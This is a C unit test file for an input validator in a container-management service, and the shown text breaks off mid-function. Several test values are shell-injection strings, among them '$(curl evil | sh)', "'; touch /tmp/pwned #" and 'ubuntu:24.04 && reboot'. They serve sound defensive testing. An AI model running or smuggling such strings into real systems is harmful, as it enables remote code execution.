/*
 * test_validate.c - unit tests of src/common/validate.c.
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "common/methods.h"
#include "common/validate.h"

/* Made with ssh-keygen for these tests; nothing holds the private halves. */
#define KEY_ED25519 "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKkPCnzye7wboKaIOfH84H93ij1TnrPDG146jkPDLmTf"
#define KEY_ED25519_B64 "AAAAC3NzaC1lZDI1NTE5AAAAIKkPCnzye7wboKaIOfH84H93ij1TnrPDG146jkPDLmTf"
#define KEY_RSA "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCglkFVbW8GfGlvNrU4t+11OODOH8nCzZMZSs4KB5aYGNptw2GGugpiTY/Yt74+aAPLhL6MWYDVwyRx8z/PlyMry9jIinYhZAi6lDnT53nRelKytGw71+gu9eUpKnD289CjmyaI2W+Y6JHaN9axlOG1OPN7PvTvE0LNi6bIX8EthBWHJrL6PF9NDjiE59BxTYHHyucpATjEwbNvb+ZyccG/sdA9HkmQ6CyHvGn+3XJ26WsGashNlzFD9u0bzWy4nzZxU9FAceALczzxqFttRGYVPa92LIeZrVo2SzmSW3aNxc/Pp/QCfiMNyYcstl30GdGRpxbyEfhi2Vi2rhWkEp5Z"
#define KEY_ECDSA384 "ecdsa-sha2-nistp384 AAAAE2VjZHNhLXNoYTItbmlzdHAzODQAAAAIbmlzdHAzODQAAABhBObfMxQwMf4T5KeyssyimuDGGPf1ibi4Ij4Ta1VlaZOjfQkkTm2JfU6ltH4ecMg7ur9HAkWksXpu1H3wnE5dD0I3GaGK3JUV8Bna+RxoRNj/g6NsYlhFmMRbfmTW2/GFYQ=="

#define ERR_SIZE 512

/* Asserts that check failed with -EINVAL and err contains want. */
#define assert_fails_with(call, err, want) do { \
		(err)[0] = '\0'; \
		assert_int_equal((call), -EINVAL); \
		if (!strstr((err), (want))) \
			fail_msg("message \"%s\" lacks \"%s\"", (err), (want)); \
	} while (0)

static char *repeat(char c, size_t n)
{
	char *s = malloc(n + 1);

	assert_non_null(s);
	memset(s, c, n);
	s[n] = '\0';
	return s;
}

/* Standard padded base64 of len bytes of data, into a new string. */
static char *b64(const uint8_t *data, size_t len)
{
	static const char alphabet[] =
	    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	char *out = malloc((len + 2) / 3 * 4 + 1), *p = out;

	assert_non_null(out);
	for (size_t i = 0; i < len; i += 3) {
		uint32_t v = (uint32_t)data[i] << 16;

		if (i + 1 < len)
			v |= (uint32_t)data[i + 1] << 8;
		if (i + 2 < len)
			v |= data[i + 2];
		*p++ = alphabet[v >> 18 & 63];
		*p++ = alphabet[v >> 12 & 63];
		*p++ = i + 1 < len ? alphabet[v >> 6 & 63] : '=';
		*p++ = i + 2 < len ? alphabet[v & 63] : '=';
	}
	*p = '\0';
	return out;
}

/* Appends an SSH string field (uint32 big-endian length, bytes) to buf. */
static size_t put_string(uint8_t *buf, size_t off, const void *data, uint32_t len)
{
	buf[off] = (uint8_t)(len >> 24);
	buf[off + 1] = (uint8_t)(len >> 16);
	buf[off + 2] = (uint8_t)(len >> 8);
	buf[off + 3] = (uint8_t)len;
	memcpy(buf + off + 4, data, len);
	return off + 4 + len;
}

/* Returns "type base64(blob)" as a new string. */
static char *key_line(const char *type, const uint8_t *blob, size_t len)
{
	char *data = b64(blob, len), *line;

	assert_true(asprintf(&line, "%s %s", type, data) > 0);
	free(data);
	return line;
}

static void test_username(void **state)
{
	char err[ERR_SIZE];
	char *max = repeat('a', VALIDATE_USERNAME_MAX);
	char *over = repeat('a', VALIDATE_USERNAME_MAX + 1);

	(void)state;
	assert_int_equal(validate_username("username", "alice", err, sizeof(err)), 0);
	assert_int_equal(validate_username("username", "a", err, sizeof(err)), 0);
	assert_int_equal(validate_username("username", "dev-team_2", err, sizeof(err)), 0);
	assert_int_equal(validate_username("username", "a-", err, sizeof(err)), 0);
	assert_int_equal(validate_username("username", max, err, sizeof(err)), 0);
	assert_fails_with(validate_username("username", over, err, sizeof(err)), err,
	    "username: longer than 32 bytes");
	assert_fails_with(validate_username("username", "Alice", err, sizeof(err)), err,
	    "username: must start with a lowercase letter");
	assert_fails_with(validate_username("username", "1alice", err, sizeof(err)), err,
	    "username: must start with a lowercase letter");
	assert_fails_with(validate_username("username", "-alice", err, sizeof(err)), err,
	    "username: must start with a lowercase letter");
	assert_fails_with(validate_username("username", "aLice", err, sizeof(err)), err,
	    "username: invalid character \"L\" at offset 1");
	assert_fails_with(validate_username("username", "al ice", err, sizeof(err)), err,
	    "invalid character \" \" at offset 2");
	assert_fails_with(validate_username("username", "al\x01", err, sizeof(err)), err,
	    "invalid character \"\\x01\" at offset 2");
	assert_fails_with(validate_username("username", "al.ice", err, sizeof(err)), err,
	    "at offset 2");
	assert_fails_with(validate_username("username", "", err, sizeof(err)), err,
	    "username: must not be empty");
	assert_fails_with(validate_username("username", NULL, err, sizeof(err)), err,
	    "username: must not be empty");
	free(max);
	free(over);
}

static void test_error_buffer(void **state)
{
	char small[10];

	(void)state;
	/* No buffer at all, and a buffer too small for the message. */
	assert_int_equal(validate_username("username", "", NULL, 0), -EINVAL);
	assert_int_equal(validate_username("username", "", small, sizeof(small)), -EINVAL);
	assert_string_equal(small, "username:");
	assert_int_equal(validate_username("username", "", small, 1), -EINVAL);
	assert_string_equal(small, "");
}

static void test_echo(void **state)
{
	char buf[VALIDATE_ECHO_SIZE];
	char *longer = repeat('x', 100), *worst = repeat('\x01', 100);

	(void)state;
	assert_string_equal(validate_echo(buf, "plain"), "\"plain\"");
	assert_string_equal(validate_echo(buf, NULL), "\"\"");
	assert_string_equal(validate_echo(buf, "a\"b\\c\n\x7f\xc3\xa9"),
	    "\"a\\\"b\\\\c\\x0a\\x7f\\xc3\\xa9\"");
	validate_echo(buf, longer);
	assert_int_equal(strlen(buf), 2 + VALIDATE_ECHO_MAX + 3);
	assert_non_null(strstr(buf, "\"..."));
	validate_echo(buf, worst);
	assert_int_equal(strlen(buf), VALIDATE_ECHO_SIZE - 1);
	free(longer);
	free(worst);
}

static void test_size(void **state)
{
	char err[ERR_SIZE];
	uint64_t bytes = 0;

	(void)state;
	assert_int_equal(validate_size("memory", "4GB", &bytes, err, sizeof(err)), 0);
	assert_true(bytes == 4000000000ULL);
	assert_int_equal(validate_size("memory", "512MiB", &bytes, err, sizeof(err)), 0);
	assert_true(bytes == 512ULL * 1024 * 1024);
	assert_int_equal(validate_size("memory", "1", &bytes, err, sizeof(err)), 0);
	assert_true(bytes == 1);
	assert_int_equal(validate_size("memory", "7B", &bytes, err, sizeof(err)), 0);
	assert_true(bytes == 7);
	assert_int_equal(validate_size("memory", "2kB", &bytes, err, sizeof(err)), 0);
	assert_true(bytes == 2000);
	assert_int_equal(validate_size("memory", "3KB", &bytes, err, sizeof(err)), 0);
	assert_true(bytes == 3000);
	assert_int_equal(validate_size("memory", "1KiB", &bytes, err, sizeof(err)), 0);
	assert_true(bytes == 1024);
	assert_int_equal(validate_size("memory", "2TB", &bytes, err, sizeof(err)), 0);
	assert_true(bytes == 2000000000000ULL);
	assert_int_equal(validate_size("memory", "1TiB", &bytes, err, sizeof(err)), 0);
	assert_true(bytes == 1ULL << 40);
	assert_int_equal(validate_size("memory", "9223372036854775807", &bytes, err, sizeof(err)), 0);
	assert_true(bytes == INT64_MAX);
	assert_int_equal(validate_size("memory", "50GB", NULL, err, sizeof(err)), 0);

	bytes = 42;
	assert_fails_with(validate_size("resources.memory", "4XB", &bytes, err, sizeof(err)), err,
	    "resources.memory: \"4XB\" is not a size (use e.g. 4GB or 512MiB)");
	assert_true(bytes == 42);   /* untouched on error */
	assert_fails_with(validate_size("m", "99999999999999999999GB", &bytes, err, sizeof(err)),
	    err, "m: \"99999999999999999999GB\" is too large");
	assert_fails_with(validate_size("m", "99999999999999999999", &bytes, err, sizeof(err)),
	    err, "is too large");
	assert_fails_with(validate_size("m", "9223372036854775808", &bytes, err, sizeof(err)),
	    err, "is too large");
	assert_fails_with(validate_size("m", "17179869184GiB", &bytes, err, sizeof(err)),
	    err, "is too large");
	assert_fails_with(validate_size("m", "4 GB", &bytes, err, sizeof(err)), err, "is not a size");
	assert_fails_with(validate_size("m", "", &bytes, err, sizeof(err)), err,
	    "m: \"\" is not a size");
	assert_fails_with(validate_size("m", NULL, &bytes, err, sizeof(err)), err, "is not a size");
	assert_fails_with(validate_size("m", "GB", &bytes, err, sizeof(err)), err, "is not a size");
	assert_fails_with(validate_size("m", "-1", &bytes, err, sizeof(err)), err, "is not a size");
	assert_fails_with(validate_size("m", "+1", &bytes, err, sizeof(err)), err, "is not a size");
	assert_fails_with(validate_size("m", " 1", &bytes, err, sizeof(err)), err, "is not a size");
	assert_fails_with(validate_size("m", "1 ", &bytes, err, sizeof(err)), err, "is not a size");
	assert_fails_with(validate_size("m", "4gb", &bytes, err, sizeof(err)), err, "is not a size");
	assert_fails_with(validate_size("m", "4G", &bytes, err, sizeof(err)), err, "is not a size");
	assert_fails_with(validate_size("m", "1.5GB", &bytes, err, sizeof(err)), err, "is not a size");
	assert_fails_with(validate_size("m", "4GBB", &bytes, err, sizeof(err)), err, "is not a size");
	assert_fails_with(validate_size("m", "0", &bytes, err, sizeof(err)), err, "m: must not be zero");
	assert_fails_with(validate_size("m", "0GiB", &bytes, err, sizeof(err)), err, "must not be zero");
	assert_true(bytes == 42);
}

static void test_cpu(void **state)
{
	char err[ERR_SIZE];

	(void)state;
	assert_int_equal(validate_cpu("cpu", "1", err, sizeof(err)), 0);
	assert_int_equal(validate_cpu("cpu", "4", err, sizeof(err)), 0);
	assert_int_equal(validate_cpu("cpu", "1024", err, sizeof(err)), 0);
	assert_fails_with(validate_cpu("resources.cpu", "0", err, sizeof(err)), err,
	    "resources.cpu: \"0\" is out of range (1..1024)");
	assert_fails_with(validate_cpu("cpu", "1025", err, sizeof(err)), err, "is out of range");
	assert_fails_with(validate_cpu("cpu", "99999999999999999999999", err, sizeof(err)), err,
	    "is out of range");
	assert_fails_with(validate_cpu("cpu", "", err, sizeof(err)), err, "is not a CPU count");
	assert_fails_with(validate_cpu("cpu", "04", err, sizeof(err)), err, "is not a CPU count");
	assert_fails_with(validate_cpu("cpu", "+4", err, sizeof(err)), err, "is not a CPU count");
	assert_fails_with(validate_cpu("cpu", "-1", err, sizeof(err)), err, "is not a CPU count");
	assert_fails_with(validate_cpu("cpu", " 4", err, sizeof(err)), err, "is not a CPU count");
	assert_fails_with(validate_cpu("cpu", "4 ", err, sizeof(err)), err, "is not a CPU count");
	assert_fails_with(validate_cpu("cpu", "1.5", err, sizeof(err)), err, "is not a CPU count");
	assert_fails_with(validate_cpu("cpu", "0-3", err, sizeof(err)), err, "is not a CPU count");
}

static void test_image(void **state)
{
	char err[ERR_SIZE];
	char *max = repeat('a', VALIDATE_IMAGE_MAX), *over = repeat('a', VALIDATE_IMAGE_MAX + 1);

	(void)state;
	assert_int_equal(validate_image("image", "ubuntu:24.04", err, sizeof(err)), 0);
	assert_int_equal(validate_image("image", "images:debian/12", err, sizeof(err)), 0);
	assert_int_equal(validate_image("image", "alpine/edge/cloud", err, sizeof(err)), 0);
	assert_int_equal(validate_image("image", "My_Image-1.0", err, sizeof(err)), 0);
	assert_int_equal(validate_image("image", max, err, sizeof(err)), 0);
	assert_fails_with(validate_image("image", over, err, sizeof(err)), err,
	    "image: longer than 128 bytes");
	assert_fails_with(validate_image("image", "", err, sizeof(err)), err,
	    "image: must not be empty");
	assert_fails_with(validate_image("image", ":24.04", err, sizeof(err)), err,
	    "the remote is empty");
	assert_fails_with(validate_image("image", "ubuntu:", err, sizeof(err)), err,
	    "the alias is empty");
	assert_fails_with(validate_image("image", "a:b:c", err, sizeof(err)), err,
	    "more than one ':'");
	assert_fails_with(validate_image("image", "ubuntu:24.04;reboot", err, sizeof(err)), err,
	    "invalid character \";\" at offset 12");
	assert_fails_with(validate_image("image", "ubuntu 24.04", err, sizeof(err)), err,
	    "invalid character \" \"");
	assert_fails_with(validate_image("image", "-rf", err, sizeof(err)), err,
	    "the alias must start with a letter or digit");
	assert_fails_with(validate_image("image", "ubuntu:../x", err, sizeof(err)), err,
	    "the alias must start with a letter or digit");
	assert_fails_with(validate_image("image", "$(x):y", err, sizeof(err)), err,
	    "the remote must start with a letter or digit");
	free(max);
	free(over);
}

static void test_labels(void **state)
{
	char err[ERR_SIZE];
	char *key_max = repeat('k', VALIDATE_LABEL_KEY_MAX);
	char *key_over = repeat('k', VALIDATE_LABEL_KEY_MAX + 1);
	char *value_max = repeat('v', VALIDATE_LABEL_VALUE_MAX);
	char *value_over = repeat('v', VALIDATE_LABEL_VALUE_MAX + 1);

	(void)state;
	assert_int_equal(validate_label_key("k", "team", err, sizeof(err)), 0);
	assert_int_equal(validate_label_key("k", "0day", err, sizeof(err)), 0);
	assert_int_equal(validate_label_key("k", "a.b-c_d", err, sizeof(err)), 0);
	assert_int_equal(validate_label_key("k", key_max, err, sizeof(err)), 0);
	assert_fails_with(validate_label_key("k", key_over, err, sizeof(err)), err,
	    "k: key longer than 63 bytes");
	assert_fails_with(validate_label_key("k", "", err, sizeof(err)), err,
	    "k: key must not be empty");
	assert_fails_with(validate_label_key("k", "Team", err, sizeof(err)), err,
	    "key must start with a lowercase letter or digit");
	assert_fails_with(validate_label_key("k", "_x", err, sizeof(err)), err,
	    "key must start with a lowercase letter or digit");
	assert_fails_with(validate_label_key("k", "a b", err, sizeof(err)), err,
	    "invalid character \" \" at offset 1");
	assert_fails_with(validate_label_key("k", "a/b", err, sizeof(err)), err,
	    "invalid character \"/\"");

	assert_int_equal(validate_label_value("v", "", err, sizeof(err)), 0);
	assert_int_equal(validate_label_value("v", "Infra team; \"quoted\" $(x)", err, sizeof(err)), 0);
	assert_int_equal(validate_label_value("v", value_max, err, sizeof(err)), 0);
	assert_fails_with(validate_label_value("v", value_over, err, sizeof(err)), err,
	    "v: value longer than 255 bytes");
	assert_fails_with(validate_label_value("v", "a\tb", err, sizeof(err)), err,
	    "invalid character \"\\x09\" at offset 1");
	assert_fails_with(validate_label_value("v", "a\nb", err, sizeof(err)), err,
	    "invalid character \"\\x0a\"");
	assert_fails_with(validate_label_value("v", "\x7f", err, sizeof(err)), err,
	    "invalid character \"\\x7f\"");
	assert_fails_with(validate_label_value("v", "caf\xc3\xa9", err, sizeof(err)), err,
	    "invalid character \"\\xc3\" at offset 3");
	free(key_max);
	free(key_over);
	free(value_max);
	free(value_over);
}

static void test_ssh_key_valid(void **state)
{
	char err[ERR_SIZE];
	static const char *const keys[] = {
		KEY_ED25519,
		KEY_ED25519 " alice@laptop",
		KEY_RSA " bob@host",
		KEY_ECDSA384 " carol",
		/* The comment is data: shell syntax in it changes nothing. */
		KEY_ED25519 " '; touch /tmp/pwned #",
		KEY_ED25519 " $(reboot)",
		KEY_ED25519 " `reboot` and $(curl evil | sh)",
		KEY_ED25519 " \"quoted\" \\backslash\\ ;&|<>",
		KEY_ED25519 " jos\xc3\xa9 with UTF-8",
		"ssh-ed25519\t" KEY_ED25519_B64 "\tcomment\twith tabs",
		"ssh-ed25519   " KEY_ED25519_B64 "   spaced",
	};

	(void)state;
	for (size_t i = 0; i < sizeof(keys) / sizeof(keys[0]); i++) {
		err[0] = '\0';
		if (validate_ssh_public_key("ssh_public_key", keys[i], err, sizeof(err)) != 0)
			fail_msg("key %zu refused: %s", i, err);
	}
}

static void test_ssh_key_crafted(void **state)
{
	static const uint8_t pk[32] = { 1, 2, 3 };
	uint8_t blob[256];
	char err[ERR_SIZE], *line;
	size_t n;

	(void)state;
	/* A security-key ed25519 blob: type, public key, application. */
	n = put_string(blob, 0, "sk-ssh-ed25519@openssh.com", 26);
	n = put_string(blob, n, pk, 32);
	n = put_string(blob, n, "ssh:", 4);
	line = key_line("sk-ssh-ed25519@openssh.com", blob, n);
	assert_int_equal(validate_ssh_public_key("k", line, err, sizeof(err)), 0);
	free(line);

	/* ed25519 with a trailing extra field. */
	n = put_string(blob, 0, "ssh-ed25519", 11);
	n = put_string(blob, n, pk, 32);
	n = put_string(blob, n, "x", 1);
	line = key_line("ssh-ed25519", blob, n);
	assert_fails_with(validate_ssh_public_key("k", line, err, sizeof(err)), err,
	    "truncated or malformed");
	free(line);

	/* ed25519 whose key is not 32 bytes. */
	n = put_string(blob, 0, "ssh-ed25519", 11);
	n = put_string(blob, n, pk, 31);
	line = key_line("ssh-ed25519", blob, n);
	assert_fails_with(validate_ssh_public_key("k", line, err, sizeof(err)), err,
	    "truncated or malformed");
	free(line);

	/* A length prefix that runs past the end of the blob. */
	n = put_string(blob, 0, "ssh-ed25519", 11);
	n = put_string(blob, n, pk, 32);
	blob[18] = 0x7f;
	line = key_line("ssh-ed25519", blob, n);
	assert_fails_with(validate_ssh_public_key("k", line, err, sizeof(err)), err,
	    "truncated or malformed");
	free(line);

	/* ECDSA whose curve field names another curve. */
	n = put_string(blob, 0, "ecdsa-sha2-nistp256", 19);
	n = put_string(blob, n, "nistp384", 8);
	n = put_string(blob, n, pk, 32);
	line = key_line("ecdsa-sha2-nistp256", blob, n);
	assert_fails_with(validate_ssh_public_key("k", line, err, sizeof(err)), err,
	    "truncated or malformed");
	free(line);
}

static void test_ssh_key_invalid(void **state)
{
	char err[ERR_SIZE], *huge, *line;
	size_t b64_len = strlen(KEY_ED25519_B64);

	(void)state;
	assert_fails_with(validate_ssh_public_key("ssh_public_key",
	    KEY_ED25519 " ok\nssh-ed25519 AAAA evil", err, sizeof(err)), err,
	    "ssh_public_key: contains a newline");
	assert_fails_with(validate_ssh_public_key("ssh_public_key",
	    KEY_ED25519 "\n", err, sizeof(err)), err, "ssh_public_key: contains a newline");
	assert_fails_with(validate_ssh_public_key("k", KEY_ED25519 " a\rb", err, sizeof(err)),
	    err, "k: contains a carriage return");
	assert_fails_with(validate_ssh_public_key("k", KEY_ED25519 " \x1b[31mred", err,
	    sizeof(err)), err, "contains a control character at offset");
	assert_fails_with(validate_ssh_public_key("ssh_keys[1]", "ssh-foo AAAA", err,
	    sizeof(err)), err,
	    "ssh_keys[1]: not an OpenSSH public key: unknown key type \"ssh-foo\"");
	assert_fails_with(validate_ssh_public_key("k", "ssh-dss AAAAB3NzaC1kc3M=", err,
	    sizeof(err)), err, "unknown key type \"ssh-dss\"");
	assert_fails_with(validate_ssh_public_key("k", "command=\"reboot\" " KEY_ED25519,
	    err, sizeof(err)), err, "unknown key type \"command=\\\"reboot\\\"\"");
	assert_fails_with(validate_ssh_public_key("k", " " KEY_ED25519, err, sizeof(err)),
	    err, "expected \"type base64 [comment]\"");
	assert_fails_with(validate_ssh_public_key("k", "", err, sizeof(err)), err,
	    "k: must not be empty");
	assert_fails_with(validate_ssh_public_key("k", "ssh-ed25519", err, sizeof(err)), err,
	    "key data is missing");
	assert_fails_with(validate_ssh_public_key("k", "ssh-ed25519  ", err, sizeof(err)), err,
	    "key data is missing");

	/* Truncated base64: by one character, and by a whole group. */
	line = strdup(KEY_ED25519);
	line[strlen(line) - 1] = '\0';
	assert_fails_with(validate_ssh_public_key("k", line, err, sizeof(err)), err,
	    "key data is not valid base64");
	line[strlen(line) - 3] = '\0';
	assert_fails_with(validate_ssh_public_key("k", line, err, sizeof(err)), err,
	    "key data is truncated or malformed");
	free(line);

	/* Prefix says one type, blob holds another. */
	assert_fails_with(validate_ssh_public_key("k", "ssh-rsa " KEY_ED25519_B64, err,
	    sizeof(err)), err, "key data does not match key type \"ssh-rsa\"");
	assert_fails_with(validate_ssh_public_key("k", "ecdsa-sha2-nistp384 " KEY_ED25519_B64,
	    err, sizeof(err)), err, "does not match key type \"ecdsa-sha2-nistp384\"");

	/* Base64 that is not strict. */
	assert_fails_with(validate_ssh_public_key("k", "ssh-ed25519 AAAA!AAA", err,
	    sizeof(err)), err, "not valid base64");
	assert_fails_with(validate_ssh_public_key("k", "ssh-ed25519 AA==AAAA", err,
	    sizeof(err)), err, "not valid base64");
	assert_fails_with(validate_ssh_public_key("k", "ssh-ed25519 AAB=", err,
	    sizeof(err)), err, "not valid base64");   /* non-zero bits under '=' */
	assert_fails_with(validate_ssh_public_key("k", "ssh-ed25519 A===", err,
	    sizeof(err)), err, "not valid base64");

	/* Too long, and never echoed whole. */
	huge = repeat('c', VALIDATE_SSH_KEY_MAX + 1);
	memcpy(huge, KEY_ED25519 " ", strlen(KEY_ED25519 " "));
	assert_fails_with(validate_ssh_public_key("k", huge, err, sizeof(err)), err,
	    "k: longer than 16384 bytes");
	memset(huge, 'x', VALIDATE_SSH_KEY_MAX);
	huge[VALIDATE_SSH_KEY_MAX] = '\0';
	assert_fails_with(validate_ssh_public_key("k", huge, err, sizeof(err)), err,
	    "unknown key type \"xxxx");
	assert_true(strlen(err) < 120);
	assert_non_null(strstr(err, "\"..."));
	free(huge);
	assert_fails_with(validate_ssh_public_key("k", "ssh-foo " KEY_ED25519_B64, err,
	    sizeof(err)), err, "unknown key type");
	assert_null(strstr(err, KEY_ED25519_B64 + b64_len - 20));
}

/* Fills a CreateContainerRequest that passes, with storage for its parts. */
struct create_fixture {
	Containarium__V1__CreateContainerRequest req;
	Containarium__V1__ResourceLimits resources;
	char *keys[VALIDATE_SSH_KEYS_MAX + 1];
	Containarium__V1__CreateContainerRequest__LabelsEntry entries[VALIDATE_LABELS_MAX + 1];
	Containarium__V1__CreateContainerRequest__LabelsEntry *labels[VALIDATE_LABELS_MAX + 1];
	char names[VALIDATE_LABELS_MAX + 1][16];
};

static void create_fixture_init(struct create_fixture *f)
{
	static const Containarium__V1__CreateContainerRequest init =
	    CONTAINARIUM__V1__CREATE_CONTAINER_REQUEST__INIT;
	static const Containarium__V1__ResourceLimits res_init =
	    CONTAINARIUM__V1__RESOURCE_LIMITS__INIT;
	static const Containarium__V1__CreateContainerRequest__LabelsEntry entry_init =
	    CONTAINARIUM__V1__CREATE_CONTAINER_REQUEST__LABELS_ENTRY__INIT;

	f->req = init;
	f->resources = res_init;
	f->req.username = "alice";
	f->resources.cpu = "2";
	f->resources.memory = "512MiB";
	f->resources.disk = "10GB";
	f->req.resources = &f->resources;
	for (size_t i = 0; i <= VALIDATE_SSH_KEYS_MAX; i++)
		f->keys[i] = i % 2 ? KEY_RSA " bob" : KEY_ED25519 " '; touch /tmp/pwned #";
	f->req.ssh_keys = f->keys;
	f->req.n_ssh_keys = 2;
	for (size_t i = 0; i <= VALIDATE_LABELS_MAX; i++) {
		snprintf(f->names[i], sizeof(f->names[i]), "key%zu", i);
		f->entries[i] = entry_init;
		f->entries[i].key = f->names[i];
		f->entries[i].value = "infra";
		f->labels[i] = &f->entries[i];
	}
	f->req.labels = f->labels;
	f->req.n_labels = 2;
	f->req.image = "images:debian/12";
	f->req.enable_docker = 1;
}

static int check_create(struct create_fixture *f, char *err, size_t errlen)
{
	return validate_request(METHOD_CREATE_CONTAINER, &f->req.base, err, errlen);
}

static void test_request_create(void **state)
{
	struct create_fixture f;
	char err[ERR_SIZE];

	(void)state;
	create_fixture_init(&f);
	assert_int_equal(check_create(&f, err, sizeof(err)), 0);

	f.req.resources = NULL;
	f.req.image = "";
	f.req.n_ssh_keys = 0;
	f.req.n_labels = 0;
	assert_int_equal(check_create(&f, err, sizeof(err)), 0);

	create_fixture_init(&f);
	f.resources.cpu = "";
	f.resources.memory = "";
	f.resources.disk = "";
	assert_int_equal(check_create(&f, err, sizeof(err)), 0);

	create_fixture_init(&f);
	f.req.username = "";
	assert_fails_with(check_create(&f, err, sizeof(err)), err,
	    "username: must not be empty");

	create_fixture_init(&f);
	f.resources.memory = "4XB";
	assert_fails_with(check_create(&f, err, sizeof(err)), err,
	    "resources.memory: \"4XB\" is not a size (use e.g. 4GB or 512MiB)");

	create_fixture_init(&f);
	f.resources.cpu = "0";
	assert_fails_with(check_create(&f, err, sizeof(err)), err, "resources.cpu: ");

	create_fixture_init(&f);
	f.resources.disk = "lots";
	assert_fails_with(check_create(&f, err, sizeof(err)), err, "resources.disk: ");

	create_fixture_init(&f);
	f.keys[1] = "ssh-foo AAAA";
	assert_fails_with(check_create(&f, err, sizeof(err)), err,
	    "ssh_keys[1]: not an OpenSSH public key: unknown key type \"ssh-foo\"");

	create_fixture_init(&f);
	f.req.n_ssh_keys = VALIDATE_SSH_KEYS_MAX;
	assert_int_equal(check_create(&f, err, sizeof(err)), 0);
	f.req.n_ssh_keys = VALIDATE_SSH_KEYS_MAX + 1;
	assert_fails_with(check_create(&f, err, sizeof(err)), err,
	    "ssh_keys: more than 32 keys");

	create_fixture_init(&f);
	f.req.n_labels = VALIDATE_LABELS_MAX;
	assert_int_equal(check_create(&f, err, sizeof(err)), 0);
	f.req.n_labels = VALIDATE_LABELS_MAX + 1;
	assert_fails_with(check_create(&f, err, sizeof(err)), err,
	    "labels: more than 32 labels");

	create_fixture_init(&f);
	f.entries[1].key = "Team";
	assert_fails_with(check_create(&f, err, sizeof(err)), err,
	    "labels[\"Team\"]: key must start with a lowercase letter or digit");

	create_fixture_init(&f);
	f.entries[0].key = "team";
	f.entries[0].value = "line\nbreak";
	assert_fails_with(check_create(&f, err, sizeof(err)), err,
	    "labels[team]: invalid character \"\\x0a\"");

	create_fixture_init(&f);
	f.entries[1].key = f.entries[0].key;
	assert_fails_with(check_create(&f, err, sizeof(err)), err,
	    "labels[key0]: key given more than once");

	create_fixture_init(&f);
	f.req.image = "ubuntu:24.04 && reboot";
	assert_fails_with(check_create(&f, err, sizeof(err)), err, "image: invalid character");
}

/* A request that went through the wire is checked the same way. */
static void test_request_create_wire(void **state)
{
	struct create_fixture f;
	ProtobufCMessage *decoded;
	uint8_t *wire;
	size_t len;
	char err[ERR_SIZE];

	(void)state;
	create_fixture_init(&f);
	f.entries[1].value = "bad\x01value";
	len = protobuf_c_message_get_packed_size(&f.req.base);
	wire = malloc(len);
	assert_non_null(wire);
	assert_int_equal(protobuf_c_message_pack(&f.req.base, wire), len);
	decoded = protobuf_c_message_unpack(&containarium__v1__create_container_request__descriptor,
	    NULL, len, wire);
	assert_non_null(decoded);
	assert_fails_with(validate_request(METHOD_CREATE_CONTAINER, decoded, err, sizeof(err)),
	    err, "labels[key1]: invalid character \"\\x01\" at offset 3");
	protobuf_c_message_free_unpacked(decoded, NULL);
	free(wire);
}

static void test_request_list(void **state)
{
	Containarium__V1__ListContainersRequest req = CONTAINARIUM__V1__LIST_CONTAINERS_REQUEST__INIT;
	Containarium__V1__ListContainersRequest__LabelFilterEntry entry =
	    CONTAINARIUM__V1__LIST_CONTAINERS_REQUEST__LABEL_FILTER_ENTRY__INIT;
	Containarium__V1__ListContainersRequest__LabelFilterEntry *filter[] = { &entry };
	char err[ERR_SIZE];

	(void)state;
	assert_int_equal(validate_request(METHOD_LIST_CONTAINERS, &req.base, err, sizeof(err)), 0);
	req.state = CONTAINARIUM__V1__CONTAINER_STATE__CONTAINER_STATE_ERROR;
	req.username = "bob";
	entry.key = "team";
	entry.value = "infra";
	req.label_filter = filter;
	req.n_label_filter = 1;
	assert_int_equal(validate_request(METHOD_LIST_CONTAINERS, &req.base, err, sizeof(err)), 0);

	req.state = (Containarium__V1__ContainerState)6;
	assert_fails_with(validate_request(METHOD_LIST_CONTAINERS, &req.base, err, sizeof(err)),
	    err, "state: 6 is not a ContainerState");
	req.state = (Containarium__V1__ContainerState)-1;
	assert_fails_with(validate_request(METHOD_LIST_CONTAINERS, &req.base, err, sizeof(err)),
	    err, "state: -1 is not a ContainerState");
	req.state = CONTAINARIUM__V1__CONTAINER_STATE__CONTAINER_STATE_RUNNING;

	req.username = "Bob";
	assert_fails_with(validate_request(METHOD_LIST_CONTAINERS, &req.base, err, sizeof(err)),
	    err, "username: must start with a lowercase letter");
	req.username = "bob";

	entry.key = "bad key";
	assert_fails_with(validate_request(METHOD_LIST_CONTAINERS, &req.base, err, sizeof(err)),
	    err, "label_filter[\"bad key\"]: invalid character \" \"");
}

static void test_request_username_only(void **state)
{
	Containarium__V1__GetContainerRequest get = CONTAINARIUM__V1__GET_CONTAINER_REQUEST__INIT;
	Containarium__V1__DeleteContainerRequest del = CONTAINARIUM__V1__DELETE_CONTAINER_REQUEST__INIT;
	Containarium__V1__StartContainerRequest start = CONTAINARIUM__V1__START_CONTAINER_REQUEST__INIT;
	Containarium__V1__GetMetricsRequest metrics = CONTAINARIUM__V1__GET_METRICS_REQUEST__INIT;
	Containarium__V1__GetSystemInfoRequest info = CONTAINARIUM__V1__GET_SYSTEM_INFO_REQUEST__INIT;
	char err[ERR_SIZE];

	(void)state;
	assert_fails_with(validate_request(METHOD_GET_CONTAINER, &get.base, err, sizeof(err)),
	    err, "username: must not be empty");
	assert_fails_with(validate_request(METHOD_DELETE_CONTAINER, &del.base, err, sizeof(err)),
	    err, "username: must not be empty");
	assert_fails_with(validate_request(METHOD_START_CONTAINER, &start.base, err, sizeof(err)),
	    err, "username: must not be empty");
	get.username = del.username = start.username = "alice";
	assert_int_equal(validate_request(METHOD_GET_CONTAINER, &get.base, err, sizeof(err)), 0);
	assert_int_equal(validate_request(METHOD_DELETE_CONTAINER, &del.base, err, sizeof(err)), 0);
	assert_int_equal(validate_request(METHOD_START_CONTAINER, &start.base, err, sizeof(err)), 0);
	del.username = "../etc";
	assert_fails_with(validate_request(METHOD_DELETE_CONTAINER, &del.base, err, sizeof(err)),
	    err, "username: must start with a lowercase letter");

	assert_int_equal(validate_request(METHOD_GET_METRICS, &metrics.base, err, sizeof(err)), 0);
	metrics.username = "alice";
	assert_int_equal(validate_request(METHOD_GET_METRICS, &metrics.base, err, sizeof(err)), 0);
	metrics.username = "ALICE";
